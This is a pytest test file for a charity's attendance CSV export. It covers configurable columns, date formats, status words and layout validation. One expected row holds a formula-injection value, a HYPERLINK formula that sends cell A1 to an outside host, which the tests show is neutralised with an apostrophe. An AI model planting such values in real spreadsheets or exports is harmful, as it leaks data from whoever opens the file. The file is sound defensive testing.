"""Attendance in the columns and words of the charity's own database."""

import csv
import io
from dataclasses import replace

import pytest

from app.exports.layouts import (
    FIELDS,
    MOST_COLUMNS,
    STATUSES,
    layout_csv,
    layout_faults,
)
from app.store.layouts import Column, Layout
from tests.exports.test_exports import whole
from tests.exports.test_papers import HOSTILE, called

PLAIN = Layout(
    name="Case system",
    columns=(
        Column("Ref", "reference"),
        Column("Full name", "register_name"),
        Column("On", "date"),
        Column("From", "joined"),
        Column("Outcome", "status"),
        Column("Service", "fixed", "Online group"),
    ),
    days="%d/%m/%Y",
    words={"present": "Attended", "absent": "DNA"},
)
FILED = {"ben": {"reference": "C-17", "register_name": "Benjamin Okafor"}}


def read(layout: Layout) -> list[list[str]]:
    written = layout_csv(layout, [whole()], FILED).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(written)))


def test_the_file_has_their_columns_and_their_words() -> None:
    assert read(PLAIN) == [
        ["Ref", "Full name", "On", "From", "Outcome", "Service"],
        [
            "C-17",
            "Benjamin Okafor",
            "17/11/2026",
            "17/11/2026 18:58",
            "Attended",
            "Online group",
        ],
        [
            "",
            '\'=HYPERLINK("http://x?"&A1)',
            "17/11/2026",
            "17/11/2026 19:04",
            "Attended",
            "Online group",
        ],
        ["", "Dęv, R", "17/11/2026", "", "DNA", "Online group"],
    ]


@pytest.mark.parametrize(("who", "rows"), [("client", 3), ("listed", 6), ("all", 8)])
def test_who_is_listed_is_a_choice(who: str, rows: int) -> None:
    assert len(read(replace(PLAIN, who=who))) == 1 + rows


def test_every_field_that_is_offered_can_be_written() -> None:
    columns = tuple(Column(field, field) for field in FIELDS)
    assert [len(row) for row in read(replace(PLAIN, columns=columns))] == [22] * 4


def test_nothing_becomes_a_formula_their_headings_neither() -> None:
    columns = (Column("=1+1", "name"), Column("@x", "fixed", "-2"))
    layout = replace(PLAIN, columns=columns, words={})
    written = layout_csv(layout, [called(*HOSTILE[:11])], {}).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert rows[0] == ["'=1+1", "'@x"]
    assert all(row[1] == "'-2" for row in rows[1:])
    assert [row[0] for row in rows[1:] if row[0][:1] in "=+-@\t\r"] == []


@pytest.mark.parametrize(
    ("changed", "field"),
    [
        ({"name": "  "}, "name"),
        ({"columns": ()}, "head_0"),
        ({"columns": (Column("A", "name"),) * 2}, "head_1"),
        ({"columns": (Column("A", "shoe_size"),)}, "field_0"),
        ({"columns": (Column("A", ""),)}, "field_0"),
        ({"who": "everybody"}, "who"),
        ({"days": "%x"}, "days"),
    ],
)
def test_what_cannot_be_is_told(changed: dict[str, object], field: str) -> None:
    layout = replace(PLAIN, **changed)  # type: ignore[arg-type]
    assert list(layout_faults(layout)) == [field]


@pytest.mark.parametrize(("more", "kept"), [(0, True), (1, False)])
def test_there_are_forty_columns_at_most(more: int, kept: bool) -> None:
    columns = tuple(Column(f"C{n}", "name") for n in range(MOST_COLUMNS + more))
    assert (layout_faults(replace(PLAIN, columns=columns)) == {}) is kept


def test_the_words_are_those_a_register_can_say() -> None:
    assert {"present", "absent"} <= set(STATUSES)
    assert layout_faults(PLAIN) == {}
